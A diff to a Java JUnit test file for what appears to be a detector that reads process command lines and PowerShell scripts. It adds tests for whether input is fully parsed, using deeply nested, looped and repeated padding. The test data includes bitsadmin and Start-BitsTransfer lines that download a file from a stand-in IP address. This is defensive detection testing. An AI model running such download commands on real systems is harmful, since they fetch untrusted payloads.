@@ -4,7 +4,10 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import java.util.List;
 import java.util.Optional;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
 
 /// What the reader answers beside the table of [CommandLinesTest]. All texts are invented.
 class CommandReaderTest {
@@ -82,11 +85,32 @@ class CommandReaderTest {
     Optional<String> image = Optional.of("C:\\x\\bitsadmin.exe");
     String line = "bitsadmin /transfer n http://198.51.100.7/a C:\\a";
 
-    assertThat(reader.ofProcess(image, Optional.of("Cmd.Exe"), line)).isEmpty();
-    assertThat(reader.ofProcess(image, Optional.of("-"), line)).hasSize(1);
+    assertThat(reader.ofProcess(image, Optional.of("Cmd.Exe"), line).readings()).isEmpty();
+    assertThat(reader.ofProcess(image, Optional.of("-"), line).readings()).hasSize(1);
+  }
+
+  @Test
+  void textThatIsReadWholeSaysSo() {
+    assertThat(reader.ofProcess(Optional.empty(), Optional.empty(), TRANSFER).whole()).isTrue();
+    assertThat(reader.ofScript("Start-BitsTransfer http://198.51.100.7/a C:\\a").whole()).isTrue();
+  }
+
+  @ParameterizedTest
+  @MethodSource("endless")
+  void textThatAsksForMoreWorkThanItGetsSaysSo(String script) {
+    assertThat(reader.ofScript(script).whole()).isFalse();
+  }
+
+  static Stream<String> endless() {
+    String transfer = "Start-BitsTransfer http://198.51.100.7/a C:\\a";
+    return Stream.of(
+        "foreach ($i in 1..8000) { foreach ($j in 1..8000) { } }; " + transfer,
+        "& { ".repeat(40) + transfer + " }".repeat(40),
+        "(".repeat(200) + transfer + ")".repeat(200),
+        (transfer + "\n").repeat(1_001));
   }
 
   private List<Reading> ofProcess(String line) {
-    return reader.ofProcess(Optional.empty(), Optional.empty(), line);
+    return reader.ofProcess(Optional.empty(), Optional.empty(), line).readings();
   }
 }
